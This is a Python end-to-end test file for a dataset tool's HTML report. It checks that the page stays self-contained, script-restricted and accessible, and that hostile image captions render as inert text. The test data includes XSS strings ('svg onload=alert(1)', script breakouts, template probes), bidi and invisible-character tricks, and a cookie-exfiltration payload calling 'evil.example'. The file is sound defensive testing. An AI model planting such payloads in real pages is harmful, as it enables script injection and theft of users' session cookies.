"""winnow report's page: whole, closed, harmless, in every width; and what the command writes."""
import base64
import hashlib
import json
import os
import re
import shutil
import unittest

from tests.e2e import browser, make
from tests.e2e.report_runs import HOSTILE, RECIPE, ReportRun, crawl

HIDDEN = ["a</script><script>alert(1)</script>b", "--><!--<svg onload=alert(1)>", "over \u2066isolated\u2069 and \u200e\u200fmarked \u061c end", "soft\u00ad hyphen, zero\u200bwidth, bom\ufeff",
          "<![CDATA[x]]> &#60;b&#62; &amp;lt;", "${alert(1)} {{7*7}} `x`", "pile \u0301\u0302\u0303\u0304\u0305\u0306 of marks", "wide " + "w" * 900]


class Whole(ReportRun):
    def test_the_page_says_what_the_json_says(self):
        self.make_run()
        report, (_, page) = self.json(), self.page()
        for step in report["steps"]:
            self.assertIn(f"{step['rows']['kept']:,}", page.words)
            for rule in step["rules"]:
                self.assertRegex(page.words, rf"{re.escape(rule['rule'])}.*{rule['removed']:,} ?{100 * rule['removed'] / step['rows']['read']:.1f}")
        rows = report["rows"]
        self.assertIn(f"{rows['kept']:,} samples kept of {rows['read']:,} rows", page.words)
        for what in ("in = kept + dropped, at each step", "rows in the files = rows in the manifests", "dropped rows, rule by rule, likewise",
                     "limits asked again of every row agree with its fate"):
            self.assertIn(what + "holds", page.words)
        for limit in rows["limits"]:
            for option in limit["limits"]:
                if option["own"]:
                    self.assertIn(f"{option['passes']:,}", page.words)
        top = rows["captions"]["frequent"]["most_frequent"][0]
        self.assertIn(f"“{top['name']}”, stands under {top['rows']:,}", page.words)

    def test_the_page_is_closed_and_stands_alone(self):
        self.make_run()
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertEqual(len(page.ids), len(set(page.ids)))
        self.assertEqual([tag for tag, _ in page.tags if tag in ("link", "iframe", "object", "embed", "base", "form", "audio", "video", "source")], [])
        self.assertEqual(sum(tag == "script" for tag, _ in page.tags), 1)
        for tag, attributes in page.tags:
            self.assertFalse([name for name in attributes if name.startswith("on")], attributes)
            if "href" in attributes:
                self.assertTrue(attributes["href"].startswith("#") and attributes["href"][1:] in page.ids, attributes["href"])
            if tag == "img":
                self.assertTrue(base64.b64decode(attributes["src"].removeprefix("data:image/jpeg;base64,"), validate=True).startswith(b"\xff\xd8"))
                self.assertLessEqual(max(int(attributes["width"]), int(attributes["height"])), 144)
            elif tag != "script":
                self.assertNotIn("src", attributes)
        self.assertGreater(sum(tag == "img" for tag, _ in page.tags), 8)
        script = re.search(r"<script>(.*?)</script>", text, re.S)[1]
        (policy,) = [a["content"] for tag, a in page.tags if tag == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
        self.assertIn("default-src 'none'", policy)
        self.assertIn(f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'", policy)
        self.assertNotRegex(re.sub(r"data:image/jpeg;base64,[^\"]*", "", text.split("<body>")[0] + script), r"https?://(?!www\.w3\.org/2000/svg)")
        self.assertLess(len(text), 1_000_000)
        for svg, attributes in page.tags:
            if "data-c" in attributes:
                json.loads(attributes["data-c"])

    def test_hostile_captions_are_text(self):
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [(f"http://i.example/{n}.png", text.replace("&", "&amp;").replace('"', "&quot;"))
                                                                            for n, text in enumerate(HOSTILE)])])])
        text, page = self.page()
        self.assertEqual(sum(tag == "script" for tag, _ in page.tags), 1)
        self.assertEqual(sum(tag == "style" for tag, _ in page.tags), 1)
        self.assertIn("<script>fetch('//evil.example/?'+document.cookie)</script>", page.words)  # as text
        self.assertIn("invoiceU+202Egnp.exe", page.words)
        self.assertNotIn("\u202e", text)
        self.assertIn("山あいの湖に映る朝の光", page.words)
        self.assertIn("659 characters", page.words)

    def test_what_hides_in_captions_is_named(self):
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [(f"http://i.example/{n}.png", text.replace("&", "&amp;").replace("<", "&lt;"))
                                                                            for n, text in enumerate(HIDDEN)])])])
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertEqual(sum(tag in ("script", "style") for tag, _ in page.tags), 2)
        self.assertNotIn("onload", [name for _, attributes in page.tags for name in attributes])
        for hidden in "\u2066\u2069\u200e\u200f\u061c\u200b\ufeff\u00ad":
            self.assertNotIn(hidden, text)
        self.assertIn("pile \u0301\u0302\u0303\u0304+2 marks of marks", page.words)

    def test_captions_without_end_and_with_controls_stay_small(self):
        """As another program may write them: 100 kB of text, C0 and C1 controls, escapes of escapes."""
        captions = ["x" * 60000, "é" * 30000, "tab\\tline\\nreturn\\rbell\\x07escape\\x1b[31m red", "c1 \\u{9b}31m nel \\u{85} ls \\u{2028}", "back\\\\slash \\\\u{202e}", "\u202e\u202d" * 200]
        self.write("rows.tsv", "id\turl\ttext\tsrc_file\tsrc_record\tsrc_image\tsrc_text\n" +
                   "".join(f"{n:032x}\thttp://h.example/{n}.png\t{text}\t0\t{n}\t0\t0\n" for n, text in enumerate(captions)))
        self.winnow("filter", "-q", "--plain-input", "--rule", "chars text.chars max=50000", "-o", "OUT/01-filter/", "rows.tsv")
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertNotRegex(text, "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]")
        self.assertIn("60,000 characters", page.words)
        self.assertLess(len(text), 200_000)
        for form in ("json", "text"):
            out = self.winnow("report", "--format", form, "OUT").out.decode()
            self.assertNotRegex(out, "[\x00-\x08\x0b-\x1f\x7f]")

    def test_nothing_came_in(self):
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [])])], tasks=1)
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertIn("Nothing came in", page.words)
        self.assertNotIn("No row reached it", page.words)
        self.assertEqual(re.findall(r'<h2[^>]*><span class="no">(\d+)<', text), ["2", "3", "4", "5"])  # the sections that are there
        self.assertEqual(set(re.findall(r'href="#([^"]+)"', text)) - set(re.findall(r' id="([^"]+)"', text)), set())
        self.assertNotRegex(page.words, r"\bnan\b|\binf\b|-nan")
        self.assertEqual(self.json()["rows"]["read"], 0)

    def test_one_row_and_one_host(self):
        self.make_run(crawls=[make.packed([make.page("http://p.example/", [("http://i.example/1.png", "a cat on the mat")]),
                                           make.picture("http://i.example/1.png", make.png(40, 40, 1))])], tasks=1)
        text, page = self.page()
        self.assertEqual(page.open, [])
        self.assertIn("1 sample kept of 1 row (100 %)", page.words)
        self.assertIn("All pictures come from one domain, i.example", page.words)
        self.assertNotRegex(text, r"[\"\s,>](-?nan|-?inf)\b")

    def test_without_shards_it_says_how_far_it_came(self):
        self.make_run()
        shutil.rmtree(self.path("OUT/shards.meta"))
        os.unlink(self.path("OUT/05-filter/00001.json"))
        _, page = self.page()
        self.assertRegex(page.words, r"[\d,]+ rows? kept so far of")
        self.assertIn("05-filter: 1 of 2 tasks are done", page.words)
        self.assertFalse(self.json()["rows"]["complete"])

    def test_pictures_that_are_gone_are_said_to_be(self):
        self.make_run()
        shutil.rmtree(self.path("OUT/packs"))
        shutil.rmtree(self.path("OUT/shards"))
        _, page = self.page()
        self.assertEqual(sum(tag == "img" for tag, _ in page.tags), 0)
        self.assertIn("not there any more", page.words)

    def test_unsafe_pictures_are_covered(self):
        self.make_run(recipe=RECIPE.split("  - shard:")[0] + "tasks: {tasks}\n", tasks=1)
        rows = self.winnow("view", "--plain", "OUT/05-filter/00000.rows.zst").out.decode().splitlines()
        images = lambda *arguments: sum(tag == "img" for tag, _ in self.page(*arguments)[1].tags)
        for score in ("p_nsfw_x", "p_porn_gantman", "p_hentai_gantman"):
            self.write("scored.tsv", "".join(line + (f"\t{score}" if i == 0 else f"\t{0.9 if i % 2 else 0.01}") + "\n" for i, line in enumerate(rows)))
            self.winnow("filter", "-q", "--plain-input", "--packs", "OUT/packs", "--rule", f"any score.range column={score} max=1", "-o", "OUT/06-filter/", "scored.tsv")
            self.assertIn("not shown", self.page()[1].words)
            self.assertLess(images(), images("--show-unsafe"))
            shutil.rmtree(self.path("OUT/06-filter"))


@unittest.skipUnless(browser.PROGRAM, "chromium is not installed")
@unittest.skipIf(os.environ.get("WINNOW_VARIANT"), "the page is the same with sanitizers")
class Looks(ReportRun):
    """What a browser makes of it: no width of window scrolls the page sideways, no script and no keyboard is left out."""
    WIDER = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    OUTSIDE = """[...document.querySelectorAll("main p, main dd, main h2, main h3, figure, table")].filter(e => !e.closest(".scroll, pre, svg")
        && e.scrollWidth > e.clientWidth + 1 && getComputedStyle(e).overflowX == "visible" && getComputedStyle(e).display != "inline").map(e => e.outerHTML.slice(0, 120))"""

    def test_every_width_light_and_dark_without_script_and_by_keyboard(self):
        self.make_run()
        self.winnow("report", "-o", "page/", "OUT")
        path = self.path("page/index.html")
        with browser.Browser() as chromium:
            for width in (360, 768, 1280, 1600):
                for dark in (False, True):
                    chromium.open(path, width=width, dark=dark, script=width != 768)
                    self.assertLessEqual(chromium.evaluate(self.WIDER), 0, width)
                    self.assertEqual(chromium.evaluate(self.OUTSIDE), [], width)
            chromium.open(path, script=False)
            self.assertEqual(chromium.evaluate("document.documentElement.classList.contains('js')"), False)
            told = chromium.evaluate("document.body.innerText")
            self.assertIn(f"{self.json()['rows']['kept']:,} samples", told)
            self.assertNotIn("Point at a chart", told)
            chromium.open(path)
            chromium.press("Tab")
            self.assertEqual(chromium.evaluate("document.activeElement.className"), "skip")
            chromium.evaluate("document.querySelector('[role=slider]').focus()")
            before = chromium.evaluate("document.activeElement.getAttribute('aria-valuetext')")
            chromium.press("ArrowRight")
            self.assertNotEqual(chromium.evaluate("document.activeElement.getAttribute('aria-valuetext')"), before)


class Command(ReportRun):
    def test_page_and_json_go_to_the_run_and_text_to_the_terminal(self):
        self.make_run()
        done = self.winnow("report", "OUT")
        self.assertEqual(self.read("OUT/report/index.html"), self.winnow("report", "--format", "html", "OUT").out)
        self.assertEqual(self.read("OUT/report/report.json"), self.winnow("report", "--format", "json", "OUT").out)
        self.assertEqual(done.out, self.winnow("report", "--format", "text", "OUT").out)
        self.assertEqual(done.lines, ["winnow report: OUT/report/index.html: the page, and report.json beside it"])
        self.assertEqual(self.leftovers(), [])
        self.winnow("report", "-o", "else/where/", "OUT")
        self.assertEqual(self.read("else/where/index.html"), self.read("OUT/report/index.html"))

    def test_one_form_is_all_that_is_written(self):
        self.make_run()
        before = make.tree(self.folder)
        for form in ("html", "json", "text"):
            self.winnow("report", "--format", form, "OUT")
        self.winnow("report", "--funnel", "OUT")
        self.assertEqual(make.tree(self.folder), before)

    def test_the_funnel_alone_reads_no_rows(self):
        self.make_run()
        for name in make.tree(self.path("OUT")):
            if name.endswith(".zst"):
                os.unlink(self.path("OUT", name))
        report = json.loads(self.winnow("report", "--funnel", "--format", "json", "OUT").out)
        self.assertIsNone(report["rows"])
        self.assertIn("02-filter", self.winnow("report", "--funnel", "OUT").out.decode())

    def test_a_folder_of_one_stage_gets_no_page(self):
        self.write("a.warc.gz", crawl(1))
        self.winnow("extract", "-q", "-o", "alone/", "a.warc.gz")
        self.winnow("report", "alone")
        self.assertFalse(os.path.exists(self.path("alone/report")))

    def test_wrong_use_is_told(self):
        self.make_run()
        for arguments in (["--funnel", "--format", "html"], ["--funnel", "-o", "x/"], ["--format", "json", "-o", "x/"], ["--format", "pdf"]):
            self.assertEqual(len(self.winnow("report", *arguments, "OUT", code=2).lines), 1)

    def test_a_damaged_row_file_is_told(self):
        self.make_run()
        data = self.read("OUT/02-filter/00000.dropped.zst")
        self.write("OUT/02-filter/00000.dropped.zst", data[:len(data) // 2])
        done = self.winnow("report", "OUT", code=1)
        self.assertIn("OUT/02-filter/00000.dropped.zst", done.error)
        self.assertFalse(os.path.exists(self.path("OUT/report")))


if __name__ == "__main__":
    unittest.main()
